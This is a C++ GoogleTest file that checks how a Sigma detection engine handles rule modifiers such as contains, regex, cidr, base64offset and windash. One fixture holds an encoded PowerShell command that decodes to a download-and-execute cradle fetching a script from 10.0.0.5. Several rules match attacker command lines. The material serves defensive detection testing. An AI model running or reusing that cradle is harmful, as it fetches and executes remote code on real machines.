// Sigma value modifiers, one test per modifier (positive and negative), through real rule text:
// what an analyst writes in a rule must select exactly the events the spec says.
#include "detect/regex_matcher.h"
#include "sigma_test_lookup.h"

#include <gtest/gtest.h>

namespace {

using namespace vigie;
using test::MapLookup;

// Whether the one-selection rule `body` matches an event with `fields`.
bool hit(const std::string& body, std::map<std::string, std::string> fields,
         const detect::CompileOptions& options = {})
{
    const auto rule = test::compileYaml(test::ruleWith(body), options);
    return rule && rule->matches(MapLookup(std::move(fields)));
}

TEST(SigmaModifiers, PlainValueIsAnExactCaseInsensitiveMatch)
{
    EXPECT_TRUE(hit("        Image: 'C:\\Windows\\System32\\cmd.exe'\n",
                    {{"Image", "c:\\windows\\system32\\CMD.EXE"}}));
    EXPECT_FALSE(hit("        Image: 'C:\\Windows\\System32\\cmd.exe'\n",
                     {{"Image", "C:\\Windows\\System32\\cmd.exe2"}}));
    EXPECT_FALSE(hit("        Image: cmd.exe\n", {}));
}

TEST(SigmaModifiers, ContainsStartswithEndswith)
{
    EXPECT_TRUE(
        hit("        CommandLine|contains: ' -NoP '\n", {{"CommandLine", "powershell -nop -w hidden"}}));
    EXPECT_FALSE(hit("        CommandLine|contains: ' -NoP '\n", {{"CommandLine", "powershell -noprofile"}}));
    EXPECT_TRUE(hit("        Image|endswith: '\\rundll32.exe'\n", {{"Image", "C:\\Windows\\RUNDLL32.exe"}}));
    EXPECT_FALSE(hit("        Image|endswith: '\\rundll32.exe'\n", {{"Image", "C:\\rundll32.exe.bak"}}));
    EXPECT_TRUE(hit("        CommandLine|startswith: 'net '\n", {{"CommandLine", "NET user admin"}}));
    EXPECT_FALSE(hit("        CommandLine|startswith: 'net '\n", {{"CommandLine", "cmd /c net user"}}));
}

TEST(SigmaModifiers, WildcardsAndEscapes)
{
    EXPECT_TRUE(hit("        Image: '*\\a?c.exe'\n", {{"Image", "C:\\x\\abc.exe"}}));
    EXPECT_FALSE(hit("        Image: '*\\a?c.exe'\n", {{"Image", "C:\\x\\ac.exe"}}));
    EXPECT_TRUE(hit("        Image: 'C:\\\\*\\evil.exe'\n", {{"Image", "C:\\Users\\bob\\evil.exe"}}));
    // \* is a literal star, \\* a literal backslash then a wildcard, a lone \ is literal.
    EXPECT_TRUE(hit("        Value: 'a\\*b'\n", {{"Value", "a*b"}}));
    EXPECT_FALSE(hit("        Value: 'a\\*b'\n", {{"Value", "axxb"}}));
    EXPECT_TRUE(hit("        Value: 'dir\\\\*'\n", {{"Value", "dir\\sub"}}));
    EXPECT_FALSE(hit("        Value: 'dir\\\\*'\n", {{"Value", "dirsub"}}));
    EXPECT_TRUE(hit("        Value: 'what\\?'\n", {{"Value", "what?"}}));
    EXPECT_FALSE(hit("        Value: 'what\\?'\n", {{"Value", "whatx"}}));
    EXPECT_TRUE(hit("        Value: 'C:\\Temp\\'\n", {{"Value", "c:\\temp\\"}}));
    // ? is one character, even a multi-byte one.
    EXPECT_TRUE(hit("        Value: 'caf?'\n", {{"Value", "caf\xC3\xA9"}}));
}

TEST(SigmaModifiers, AllAndsTheValues)
{
    const std::string body =
        "        CommandLine|contains|all:\n            - ' -enc '\n            - 'hidden'\n";
    EXPECT_TRUE(hit(body, {{"CommandLine", "powershell -w hidden -enc AAAA"}}));
    EXPECT_FALSE(hit(body, {{"CommandLine", "powershell -enc AAAA"}}));
    EXPECT_TRUE(hit("        CommandLine|contains:\n            - ' -enc '\n            - 'hidden'\n",
                    {{"CommandLine", "powershell -enc AAAA"}}));
}

TEST(SigmaModifiers, CasedIsCaseSensitive)
{
    EXPECT_TRUE(hit("        Value|cased: 'MiXeD'\n", {{"Value", "MiXeD"}}));
    EXPECT_FALSE(hit("        Value|cased: 'MiXeD'\n", {{"Value", "mixed"}}));
    EXPECT_FALSE(hit("        Value|contains|cased: 'Token'\n", {{"Value", "a token here"}}));
}

TEST(SigmaModifiers, NeqNeedsThePresentFieldToDifferFromEveryValue)
{
    const std::string body = "        LogonType|neq:\n            - 3\n            - 10\n";
    EXPECT_TRUE(hit(body, {{"LogonType", "2"}}));
    EXPECT_FALSE(hit(body, {{"LogonType", "10"}}));
    EXPECT_FALSE(hit(body, {}));
}

TEST(SigmaModifiers, ExistsTestsPresenceOnly)
{
    EXPECT_TRUE(hit("        Hashes|exists: true\n", {{"Hashes", ""}}));
    EXPECT_FALSE(hit("        Hashes|exists: true\n", {}));
    EXPECT_TRUE(hit("        Hashes|exists: false\n", {}));
    EXPECT_FALSE(hit("        Hashes|exists: false\n", {{"Hashes", "x"}}));
    EXPECT_NE(test::refusal(test::ruleWith("        Hashes|exists: maybe\n")), "");
}

TEST(SigmaModifiers, NullIsAbsentAndEmptyIsPresent)
{
    EXPECT_TRUE(hit("        CommandLine: null\n", {}));
    EXPECT_FALSE(hit("        CommandLine: null\n", {{"CommandLine", ""}}));
    EXPECT_TRUE(hit("        CommandLine: ''\n", {{"CommandLine", ""}}));
    EXPECT_FALSE(hit("        CommandLine: ''\n", {}));
    EXPECT_FALSE(hit("        CommandLine: ''\n", {{"CommandLine", "x"}}));
}

TEST(SigmaModifiers, NumbersCompareAsValues)
{
    EXPECT_TRUE(hit("        EventID: 4625\n", {{"EventID", "4625"}}));
    EXPECT_TRUE(hit("        EventID: 4625\n", {{"EventID", "04625"}}));
    EXPECT_FALSE(hit("        EventID: 4625\n", {{"EventID", "4624"}}));
    // A quoted number is a string: exact text.
    EXPECT_FALSE(hit("        EventID: '4625'\n", {{"EventID", "04625"}}));
}

TEST(SigmaModifiers, NumericComparisons)
{
    EXPECT_TRUE(hit("        Count|lt: 5\n", {{"Count", "4"}}));
    EXPECT_FALSE(hit("        Count|lt: 5\n", {{"Count", "5"}}));
    EXPECT_TRUE(hit("        Count|lte: 5\n", {{"Count", "5"}}));
    EXPECT_FALSE(hit("        Count|lte: 5\n", {{"Count", "6"}}));
    EXPECT_TRUE(hit("        Count|gt: 5\n", {{"Count", "0x10"}}));
    EXPECT_FALSE(hit("        Count|gt: 5\n", {{"Count", "5"}}));
    EXPECT_TRUE(hit("        Count|gte: 2.5\n", {{"Count", "2.5"}}));
    EXPECT_FALSE(hit("        Count|gte: 5\n", {{"Count", "many"}}));
    EXPECT_NE(test::refusal(test::ruleWith("        Count|gt: lots\n")), "");
}

TEST(SigmaModifiers, RegexIsUnanchoredAndCaseSensitiveByDefault)
{
    EXPECT_TRUE(hit("        CommandLine|re: '\\s-e(nc)?\\s'\n", {{"CommandLine", "powershell -enc AAA"}}));
    EXPECT_FALSE(hit("        CommandLine|re: '\\s-e(nc)?\\s'\n", {{"CommandLine", "powershell -ENC AAA"}}));
    EXPECT_TRUE(hit("        CommandLine|re|i: '\\s-e(nc)?\\s'\n", {{"CommandLine", "powershell -ENC AAA"}}));
    EXPECT_TRUE(hit("        Value|re: '(?i)^abc$'\n", {{"Value", "ABC"}}));
}

TEST(SigmaModifiers, RegexMultilineAndDotall)
{
    EXPECT_FALSE(hit("        Value|re: '^second'\n", {{"Value", "first\nsecond"}}));
    EXPECT_TRUE(hit("        Value|re|m: '^second'\n", {{"Value", "first\nsecond"}}));
    EXPECT_FALSE(hit("        Value|re: 'first.second'\n", {{"Value", "first\nsecond"}}));
    EXPECT_TRUE(hit("        Value|re|s: 'first.second'\n", {{"Value", "first\nsecond"}}));
    EXPECT_NE(test::refusal(test::ruleWith("        Value|i: 'x'\n")), "");
    EXPECT_NE(test::refusal(test::ruleWith("        Value|re: '(unclosed'\n")), "");
}

TEST(SigmaModifiers, RegexEngineFallsBackToPcre2)
{
    std::string error;
    const auto simple = detect::RegexMatcher::compile("a[0-9]{2,4}b", {}, error);
    ASSERT_TRUE(simple);
    EXPECT_EQ(simple->engine(), detect::RegexMatcher::Engine::Vectorscan);
    const auto backreference = detect::RegexMatcher::compile("(ab)\\1", {}, error);
    ASSERT_TRUE(backreference) << error;
    EXPECT_EQ(backreference->engine(), detect::RegexMatcher::Engine::Pcre2);
    EXPECT_TRUE(backreference->matches("xxababyy"));
    EXPECT_FALSE(backreference->matches("xxabbayy"));
}

TEST(SigmaModifiers, CidrV4AndV6)
{
    EXPECT_TRUE(hit("        DestinationIp|cidr: 10.0.0.0/8\n", {{"DestinationIp", "10.20.30.40"}}));
    EXPECT_FALSE(hit("        DestinationIp|cidr: 10.0.0.0/8\n", {{"DestinationIp", "11.0.0.1"}}));
    EXPECT_TRUE(hit("        DestinationIp|cidr: 192.168.1.0/23\n", {{"DestinationIp", "192.168.0.7"}}));
    EXPECT_FALSE(hit("        DestinationIp|cidr: 192.168.1.0/23\n", {{"DestinationIp", "192.168.2.7"}}));
    EXPECT_TRUE(hit("        DestinationIp|cidr: 'fe80::/10'\n", {{"DestinationIp", "fe80::1"}}));
    EXPECT_FALSE(hit("        DestinationIp|cidr: 'fe80::/10'\n", {{"DestinationIp", "2001:db8::1"}}));
    EXPECT_FALSE(hit("        DestinationIp|cidr: 10.0.0.0/8\n", {{"DestinationIp", "not an ip"}}));
    EXPECT_NE(test::refusal(test::ruleWith("        DestinationIp|cidr: 10.0.0.0/33\n")), "");
}

TEST(SigmaModifiers, Base64)
{
    EXPECT_TRUE(hit("        Value|base64: 'whoami'\n", {{"Value", "d2hvYW1p"}}));
    EXPECT_FALSE(hit("        Value|base64: 'whoami'\n", {{"Value", "whoami"}}));
    EXPECT_TRUE(hit("        Value|base64|contains: 'whoami'\n", {{"Value", "x d2hvYW1p y"}}));
    EXPECT_NE(test::refusal(test::ruleWith("        Value|base64: 'who*'\n")), "");
}

TEST(SigmaModifiers, Base64offsetFindsTheValueAtEveryAlignment)
{
    const std::string body = "        Value|base64offset|contains: 'secret-token'\n";
    EXPECT_TRUE(hit(body, {{"Value", "c2VjcmV0LXRva2Vu"}}));     // offset 0
    EXPECT_TRUE(hit(body, {{"Value", "YXNlY3JldC10b2tlbg=="}})); // after 1 byte
    EXPECT_TRUE(hit(body, {{"Value", "YWJzZWNyZXQtdG9rZW4="}})); // after 2 bytes
    EXPECT_FALSE(hit(body, {{"Value", "c2VjcmV0LXRva2Vz secret-token"}}));
}

TEST(SigmaModifiers, Utf16ThenBase64offsetOnAnEncodedPowerShellCommand)
{
    const std::string command =
        "powershell.exe -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
        "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA"
        "=";
    EXPECT_TRUE(hit("        CommandLine|utf16le|base64offset|contains: 'DownloadString'\n",
                    {{"CommandLine", command}}));
    EXPECT_TRUE(
        hit("        CommandLine|wide|base64offset|contains: 'Net.WebClient'\n", {{"CommandLine", command}}));
    EXPECT_FALSE(hit("        CommandLine|utf16le|base64offset|contains: 'DownloadFile'\n",
                     {{"CommandLine", command}}));
    // Without the utf16 step the ASCII encoding is looked for, which is not there.
    EXPECT_FALSE(
        hit("        CommandLine|base64offset|contains: 'DownloadString'\n", {{"CommandLine", command}}));
}

TEST(SigmaModifiers, Utf16Encodings)
{
    EXPECT_TRUE(hit("        Value|utf16le|base64: 'cmd'\n", {{"Value", "YwBtAGQA"}}));
    EXPECT_TRUE(hit("        Value|utf16be|base64: 'cmd'\n", {{"Value", "AGMAbQBk"}}));
    EXPECT_TRUE(hit("        Value|utf16|base64: 'cmd'\n", {{"Value", "//5jAG0AZAA="}}));
    EXPECT_FALSE(hit("        Value|utf16le|base64: 'cmd'\n", {{"Value", "AGMAbQBk"}}));
    EXPECT_TRUE(hit("        Value|utf16le|contains: 'ab'\n", {{"Value", std::string("xa\0b\0y", 6)}}));
    EXPECT_FALSE(hit("        Value|utf16le|contains: 'ab'\n", {{"Value", "xaby"}}));
}

TEST(SigmaModifiers, WindashAcceptsEveryDash)
{
    const std::string body = "        CommandLine|windash|contains: ' -s '\n";
    for (const char* dash : {"-", "/", "\xE2\x80\x93", "\xE2\x80\x94", "\xE2\x80\x95"})
        EXPECT_TRUE(hit(body, {{"CommandLine", std::string("net user ") + dash + "s x"}})) << dash;
    EXPECT_FALSE(hit(body, {{"CommandLine", "net user +s x"}}));
    const std::string two = "        CommandLine|windash|contains: '-a -b'\n";
    EXPECT_TRUE(hit(two, {{"CommandLine", "tool /a -b"}}));
    EXPECT_TRUE(hit(two, {{"CommandLine", "tool -a /b"}}));
    EXPECT_FALSE(hit(two, {{"CommandLine", "tool -a b"}}));
    // A dash inside a word is not a flag.
    EXPECT_FALSE(hit("        CommandLine|windash|contains: 'x-y'\n", {{"CommandLine", "x/y"}}));
}

TEST(SigmaModifiers, FieldrefComparesTwoFields)
{
    EXPECT_TRUE(hit("        Image|fieldref: ParentImage\n", {{"Image", "a.exe"}, {"ParentImage", "A.EXE"}}));
    EXPECT_FALSE(
        hit("        Image|fieldref: ParentImage\n", {{"Image", "a.exe"}, {"ParentImage", "b.exe"}}));
    EXPECT_FALSE(hit("        Image|fieldref: ParentImage\n", {{"Image", "a.exe"}}));
    EXPECT_TRUE(
        hit("        Image|fieldref|neq: ParentImage\n", {{"Image", "a.exe"}, {"ParentImage", "b.exe"}}));
    EXPECT_FALSE(
        hit("        Image|fieldref|neq: ParentImage\n", {{"Image", "a.exe"}, {"ParentImage", "a.exe"}}));
}

TEST(SigmaModifiers, ExpandNeedsEveryPlaceholder)
{
    detect::CompileOptions options;
    options.placeholders["Workstations"] = {"ws01", "ws02"};
    const std::string body = "        Computer|expand: '%Workstations%.corp'\n";
    EXPECT_TRUE(hit(body, {{"Computer", "WS02.corp"}}, options));
    EXPECT_FALSE(hit(body, {{"Computer", "srv01.corp"}}, options));
    EXPECT_EQ(test::refusal(test::ruleWith(body)),
              "selection selection: field Computer: expand: no value for %Workstations%");
}

TEST(SigmaModifiers, TimeParts)
{
    const std::map<std::string, std::string> event{{"UtcTime", "2025-10-26 18:29:32.271"}};
    EXPECT_TRUE(hit("        UtcTime|hour: 18\n", event));
    EXPECT_FALSE(hit("        UtcTime|hour: 17\n", event));
    EXPECT_TRUE(hit("        UtcTime|minute|gte: 29\n", event));
    EXPECT_TRUE(hit("        UtcTime|month: 10\n", event));
    EXPECT_TRUE(hit("        UtcTime|year: 2025\n", event));
    EXPECT_TRUE(hit("        UtcTime|day: 26\n", event));
    EXPECT_TRUE(hit("        UtcTime|week: 43\n", event)); // ISO week of 2025-10-26 (a Sunday)
    EXPECT_FALSE(hit("        UtcTime|week: 44\n", event));
}

TEST(SigmaModifiers, UnknownOrConflictingModifiersAreRefusedWithAReason)
{
    EXPECT_EQ(test::refusal(test::ruleWith("        Value|containz: x\n")),
              "unknown modifier containz (field Value)");
    EXPECT_NE(test::refusal(test::ruleWith("        Value|re|cidr: x\n")), "");
}

} // namespace
